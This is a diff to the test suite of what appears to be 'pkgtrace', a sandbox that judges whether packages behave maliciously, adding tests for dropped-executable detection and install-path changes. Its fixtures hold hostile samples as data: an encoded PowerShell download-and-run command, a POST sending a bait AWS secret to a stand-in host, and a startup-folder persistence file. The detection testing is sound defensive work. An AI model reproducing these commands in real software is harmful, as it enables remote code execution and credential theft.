@@ -59,10 +59,10 @@ CONTEXT_EVENTS = {
         "powershell", "-e", _ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')")))],
                                         [("commands", _cmd("powershell", "-e", _ps_enc("Get-Date")))]),
     "DYN-BAIT-SENT-TO-ARGUMENT": ("execute", [("network", {
-        "kind": "tcp", "dst": "198.18.0.9", "port": 80, "hostname": "pkgtrace-placeholder.example",
-        "http": {"method": "POST", "target": "/", "host": "pkgtrace-placeholder.example", "headers": [],
+        "kind": "tcp", "dst": "198.18.0.9", "port": 80, "hostname": "hooks.example.com",
+        "http": {"method": "POST", "target": "/", "host": "hooks.example.com", "headers": [],
                  "body_b64": _b64("BAIT_AWS_SECRET")}})],
-                                  [("network", _http("pkgtrace-placeholder.example"))]),
+                                  [("network", _http("hooks.example.com"))]),
     "DYN-PERSONA-STARTUP-WRITE": ("import", [("files", {
         "path": "/root/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/upd.bat",
         "read": False, "write": True, "delete": False})],
@@ -115,7 +115,7 @@ def test_the_same_read_followed_by_a_send_is_theft():
 
 def test_a_call_pkgtrace_pointed_at_its_own_destination_is_not_network_or_theft():
     # an HTTP client's get(url) in execute, after an SDK read: pkgtrace chose that destination
-    v = judge(_with([("files", _read(AWS)), ("network", _http("pkgtrace-placeholder.example"))], "execute"),
+    v = judge(_with([("files", _read(AWS)), ("network", _http("hooks.example.com"))], "execute"),
               suppressions=[])
     assert v["label"] == "benign", v["findings"]
     assert not {"DYN-NETWORK-EXECUTE", "DYN-CREDENTIAL-THEFT"} & set(v["rules_fired"])
@@ -131,6 +131,21 @@ def test_credentials_read_at_install_or_import_stay_critical():
     for phase in ("install", "import"):
         v = judge(_with([("files", _read(DISCORD))], phase), suppressions=[])
         assert "DYN-BAIT-READ" in v["rules_fired"] and v["label"] == "malicious", (phase, v["findings"])
+
+
+def test_dropped_executable_exclusions_follow_the_package_users_layout():
+    def fired(path):
+        event = {"op": "chmod", "path": path, "mode": "0o755", "executable": True}
+        return "DYN-DROP-EXECUTABLE" in judge(_with([("file_events", event)], "install"),
+                                              suppressions=[])["rules_fired"]
+    # the package user's install targets (sandbox/layout.py): pip's console scripts, npm's bins
+    assert not fired("/home/alex/.venv/bin/pkg-cli")
+    assert not fired("/home/alex/app/node_modules/.bin/tool")
+    assert not fired("/home/alex/.local/bin/tool")
+    # evasion: the drivers' working folder and the old layout's paths are no hiding place
+    assert fired("/work/payload")
+    assert fired("/home/alex/.local/share/autostart-helper")
+    assert fired("/tmp/.cache-x/miner")
 
 
 def test_chmod_of_a_folder_is_not_a_dropped_executable():
@@ -166,11 +181,18 @@ LOOKALIKES = {"dynamic-pypi-boto3-benign.json": AWS, "dynamic-pypi-distlib-benig
               "dynamic-pypi-jinja2-benign.json": None}
 
 
+# These were recorded when package code ran as root with pip's venv at /opt/pkgtrace/venv; the
+# package user's venv is at /home/alex/.venv today (sandbox/layout.py): the install target moves.
+_OLD_LAYOUT = {"/opt/pkgtrace/venv/": "/home/alex/.venv/"}
+
+
 def _recorded_lookalike(name: str) -> dict:
     import json
     from pathlib import Path
-    doc = json.loads((Path(__file__).parent.parent / "fixtures" / "verdict" / name).read_text())
-    return {"report": doc["report"]}
+    text = (Path(__file__).parent.parent / "fixtures" / "verdict" / name).read_text()
+    for old, new in _OLD_LAYOUT.items():
+        text = text.replace(old, new)
+    return {"report": json.loads(text)["report"]}
 
 
 @pytest.mark.parametrize("name", sorted(LOOKALIKES))
